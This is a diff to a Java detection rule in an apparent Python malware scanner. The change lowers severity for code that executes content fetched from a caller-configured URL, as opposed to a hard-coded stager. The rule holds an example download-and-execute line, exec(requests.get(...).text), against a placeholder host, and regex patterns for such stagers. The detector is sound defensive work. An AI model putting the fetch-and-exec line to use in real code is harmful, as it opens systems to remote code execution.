@@ -9,6 +9,8 @@ import dev.kingsnake.spi.PythonFileRule;
 import dev.kingsnake.spi.RuleContext;
 import dev.kingsnake.spi.RuleInfo;
 import dev.kingsnake.spi.Tags;
+import dev.kingsnake.rules.shared.FixedEndpoints;
+import dev.kingsnake.spi.facts.CallFacts;
 import dev.kingsnake.spi.facts.DataFlow;
 import dev.kingsnake.spi.facts.ExecSinks;
 import dev.kingsnake.spi.python.Expr;
@@ -26,11 +28,21 @@ public final class DownloadedCodeExecutionRule implements PythonFileRule {
             Set.of(Tags.EXECUTE, Tags.DOWNLOAD, Tags.NETWORK, Tags.STRONG),
             "exec(requests.get('https://example.invalid/p.txt').text)",
             "Benign code almost never executes what it downloads; plugin systems that do so are rare and "
-                    + "should be reviewed. pickle.loads of socket data (IPC in network tools) is LOW/MEDIUM; code received on a socket (remote-execution and IPC frameworks) is HIGH/MEDIUM, fetched from a URL CRITICAL. Data is followed through simple assignments and with-blocks only.");
+                    + "should be reviewed. pickle.loads of socket data (IPC in network tools) is LOW/MEDIUM; code received on a socket (remote-execution and IPC frameworks) is HIGH/MEDIUM, fetched from a URL CRITICAL, "
+                    + "HIGH/MEDIUM when the function names no destination (a preload or plugin URL its caller or "
+                    + "configuration gives). Data is followed through simple assignments and with-blocks only.");
 
     /** A call of exec/eval with an argument, and a network fetch, inside a string literal. */
     static final Pattern STAGER_EXEC = Pattern.compile("\\b(exec|eval)\\s*\\(\\s*[^)\\s]");
     static final Pattern STAGER_NET = Pattern.compile("\\b(urlopen|urlretrieve|requests\\.(get|post)|httpx\\.get)\\b");
+
+    /** Inside a function that, like every function of the file leading to it, names no network destination. */
+    private static boolean configuredSource(PythonFile file, Expr.Call c) {
+        CallFacts calls = CallFacts.of(file);
+        int scope = calls.calls().stream().filter(f -> f.call() == c).mapToInt(CallFacts.CallFact::scope).findFirst()
+                .orElse(0);
+        return scope != 0 && !FixedEndpoints.named(calls, scope);
+    }
 
     @Override
     public RuleInfo info() {
@@ -59,6 +71,12 @@ public final class DownloadedCodeExecutionRule implements PythonFileRule {
                     // pickle over sockets is (unsafe) IPC far more often than a loader
                     sink.report(Location.of(file, c), u.sink() + "() unpickles data received from the network",
                             ExecSinks.snippet(file.line(c.line())), Severity.LOW, Confidence.MEDIUM);
+                } else if (u.taint().contains(DataFlow.Taint.FETCHED) && configuredSource(file, c)) {
+                    // preload scripts and plugins fetched from a URL the user configures: a remote-execution
+                    // feature by design; a stager names its server
+                    sink.report(Location.of(file, c), u.sink() + "() runs code fetched from a URL its caller or "
+                            + "configuration gives", ExecSinks.snippet(file.line(c.line())), Severity.HIGH,
+                            Confidence.MEDIUM);
                 } else if (u.taint().contains(DataFlow.Taint.FETCHED)) {
                     sink.report(Location.of(file, c), u.sink() + "() runs data fetched from the network",
                             ExecSinks.snippet(file.line(c.line())));
